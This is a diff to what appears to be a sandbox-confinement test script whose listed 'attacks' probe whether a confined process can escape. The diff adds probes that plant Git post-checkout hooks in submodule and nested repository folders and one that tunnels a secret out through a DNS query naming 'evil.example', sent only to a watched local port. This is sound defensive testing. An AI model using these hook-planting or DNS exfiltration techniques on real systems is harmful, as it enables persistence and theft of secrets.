@@ -6,7 +6,7 @@ Prints one JSON object: attack → what it achieved, or an empty text where it f
 what can be undone: it touches canaries that it is told, and closes what it opens.
 """
 
-# ruff: noqa: PTH123, PTH211, PTH108, PTH101, PTH118, PTH208, UP032
+# ruff: noqa: PTH103, PTH123, PTH211, PTH108, PTH101, PTH118, PTH208, UP032
 import contextlib
 import ctypes
 import fcntl
@@ -102,6 +102,24 @@ def write_git_config(at: Facts) -> str:
     return "" if at["confined"] else "wrote .git/config"
 
 
+def write_submodule(at: Facts) -> str:
+    """Where a submodule's hooks and configuration are: in the project's own Git folder."""
+    folder = os.path.join(".git", "modules", "sub")
+    os.makedirs(os.path.join(folder, "hooks"), exist_ok=True)
+    put(os.path.join(folder, "hooks", "post-checkout"))
+    put(os.path.join(folder, "config"))
+    return "" if at["confined"] else "wrote " + folder
+
+
+def write_nested_repository(at: Facts) -> str:
+    """A repository inside the project, with a Git folder of its own."""
+    folder = os.path.join("nested", ".git")
+    os.makedirs(os.path.join(folder, "hooks"), exist_ok=True)
+    put(os.path.join(folder, "hooks", "post-checkout"))
+    put(os.path.join(folder, "config"))
+    return "" if at["confined"] else "wrote " + folder
+
+
 def own_environment(at: Facts) -> str:
     return "found it" if at["secret"] in os.environ.values() else ""
 
@@ -118,7 +136,7 @@ def other_environments(at: Facts) -> str:
 def other_processes(at: Facts) -> str:
     os.kill(at["pid"], 0)
     with open("/proc/{}/cmdline".format(at["pid"]), "rb") as file:
-        return "reached process {}".format(at["pid"]) if at["mark"].encode() in file.read() else ""
+        return "reached process {}".format(at["pid"]) if file.read().hex() == at["cmdline"] else ""
 
 
 def connect(family: int, kind: int, address: Any) -> str:
@@ -137,6 +155,16 @@ def network_udp(at: Facts) -> str:
     """Nothing may arrive: the host looks."""
     connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", at["udp"]))
     return "" if at["confined"] else "sent"
+
+
+def network_dns(at: Facts) -> str:
+    """A question to a name server that carries a secret in the name. Nothing may arrive: the host looks."""
+    labels = [at["secret"][:30].encode(), b"evil", b"example"]
+    name = b"".join(bytes([len(each)]) + each for each in labels)
+    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x00\x01\x00\x01"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        one.sendto(question, ("127.0.0.1", at["dns"]))
+    return "" if at["confined"] else "asked"
 
 
 def network_routes(at: Facts) -> str:
@@ -276,11 +304,14 @@ ATTACKS: list[Callable[[Facts], str]] = [
     read_log,
     write_hook,
     write_git_config,
+    write_submodule,
+    write_nested_repository,
     own_environment,
     other_environments,
     other_processes,
     network_tcp,
     network_udp,
+    network_dns,
     network_routes,
     socket_by_path,
     socket_abstract,
